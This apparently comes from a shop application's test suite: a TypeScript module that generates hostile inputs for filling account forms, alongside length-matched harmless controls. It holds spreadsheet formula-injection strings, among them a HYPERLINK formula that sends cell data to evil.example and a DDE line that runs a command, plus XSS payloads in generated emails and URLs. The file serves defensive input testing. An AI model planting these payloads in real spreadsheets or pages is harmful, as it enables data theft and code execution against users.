import naughtyStrings from 'big-list-of-naughty-strings/blns.json' with { type: 'json' }
import { hostileTexts } from '../../checkout/attacks/attackStrings.ts'
import type { Texts } from './fillAccount.ts'
import { xssVectors } from './xssVectors.ts'

/** What a spreadsheet runs as a formula. */
export const formulas = [
  '=1+2',
  '+1+2',
  '-1+2',
  '@SUM(1,2)',
  '\t=1+2',
  'x;=1+2',
  'x\t=1+2',
  ' =1+2',
  '"=1+2',
  '＝1+2',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "=cmd|' /C calc'!A1",
]

const all = [...new Set([...hostileTexts, ...formulas, ...xssVectors, ...naughtyStrings])].filter(
  (text) => text.length >= 4 && !/^\d+$/.test(text),
)

/** Hostile texts, each as often as the others. The longest that fit come first, so that short members leave them for longer ones. */
export const hostile = (): Texts => {
  const uses = new Map(all.map((text) => [text, 0]))
  let emails = 0
  let urls = 0
  return {
    next: (maxLength) => {
      const fitting = all.filter((text) => text.length <= maxLength)
      const text = fitting.reduce((best, one) => {
        const [left, right] = [uses.get(one)!, uses.get(best)!]
        return left < right || (left === right && one.length > best.length) ? one : best
      }, fitting[0] ?? '<')
      uses.set(text, (uses.get(text) ?? 0) + 1)
      return text
    },
    nextEmail: () => `{total}$&'/onfocus='alert\`1\`'autofocus='%22%3E${emails++}@evil.example`,
    nextUrl: () => `https://shop.example/${urls++}?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E#'-alert(1)-'`,
  }
}

/** Texts without meaning, of the same lengths. */
export const harmless = (): Texts => {
  const { next } = hostile()
  let count = 0
  return {
    next: (maxLength) => `${count++}`.padEnd(Math.min(next(maxLength).length, maxLength), 'x').slice(0, maxLength),
    nextEmail: () => `ann${count++}@shop.example`,
    nextUrl: () => `https://shop.example/${count++}`,
  }
}
